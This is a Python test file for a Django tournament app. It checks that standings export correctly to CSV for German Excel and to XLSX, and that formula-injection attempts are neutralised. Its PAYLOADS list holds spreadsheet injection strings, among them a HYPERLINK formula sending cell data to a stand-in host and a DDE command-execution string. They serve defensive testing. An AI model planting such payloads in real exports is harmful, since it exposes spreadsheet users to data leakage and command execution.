"""Results as CSV (for German Excel) and XLSX: every figure of the standings, best first."""

import csv
import io

import pytest
from django.utils import translation
from openpyxl import load_workbook

from results.domain.exports import results_csv, results_table, results_xlsx
from results.domain.standings import standings
from tests.factories.documents import play_series, seated_series

pytestmark = pytest.mark.django_db


@pytest.fixture
def tournament():
    series, (table,) = seated_series((4,))
    play_series(table, seed=5)
    return series.tournament


def test_the_table_holds_every_player_ranked_with_their_figures(tournament):
    with translation.override("de"):
        header, *rows = results_table(tournament)
    assert header[:5] == ["Platz", "Startnummer", "Name", "Verein", "Summe"]
    assert header[5:8] == ["Serie 1", "Serie 2", "Serie 3"]
    expected = standings(tournament)
    assert [row[1] for row in rows] == [s.start_number for s in expected]
    assert [row[4] for row in rows] == [s.total for s in expected]
    assert [row[8] for row in rows] == [24] * 4


def test_the_csv_opens_in_german_excel(tournament):
    content = results_csv(tournament)
    assert content.startswith("\ufeff".encode())
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert len(rows) == 5
    assert rows[1:] == [[str(cell) for cell in row] for row in results_table(tournament)[1:]]


def test_the_xlsx_holds_the_same_table(tournament):
    book = load_workbook(io.BytesIO(results_xlsx(tournament)))
    values = [list(row) for row in book.active.iter_rows(values_only=True)]
    expected = [[cell if cell != "" else None for cell in row] for row in results_table(tournament)]
    assert values == expected


# --- no cell runs as a formula (CSV injection) --------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(tournament):
    """The players are named with formulas, their clubs too; some totals are negative."""
    entries = list(tournament.entries.select_related("player").order_by("start_number"))
    for entry, name, club in zip(entries, PAYLOADS[:4], PAYLOADS[2:], strict=True):
        entry.player.name = name
        entry.player.club_name = club
        entry.player.save(update_fields=["name", "club_name"])
    return tournament


def test_the_csv_quotes_every_text_that_starts_like_a_formula(hostile):
    text = results_csv(hostile).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    texts = {cell for row in rows[1:] for cell in row[2:4]}
    assert texts == {"'" + payload for payload in PAYLOADS}
    totals = [int(row[4]) for row in rows[1:]]  # numbers stay plain numbers, negative ones too
    assert min(totals) < 0
    assert [row[4] for row in rows[1:]] == [str(row[4]) for row in results_table(hostile)[1:]]
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell.lstrip("-").isdigit(), cell


def test_the_xlsx_holds_the_formulas_as_text_and_the_numbers_as_numbers(hostile):
    book = load_workbook(io.BytesIO(results_xlsx(hostile)))  # not read-only: formulas as "f"
    sheet = book.active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row[2:4]}
    assert set(texts) == {payload.replace("\r", "\n") for payload in PAYLOADS}  # XML reads CR as LF
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in texts.values())
    totals = [row[4].value for row in sheet.iter_rows(min_row=2)]
    assert all(isinstance(total, int) for total in totals)
    assert min(totals) < 0
    assert totals == [row[4] for row in results_table(hostile)[1:]]
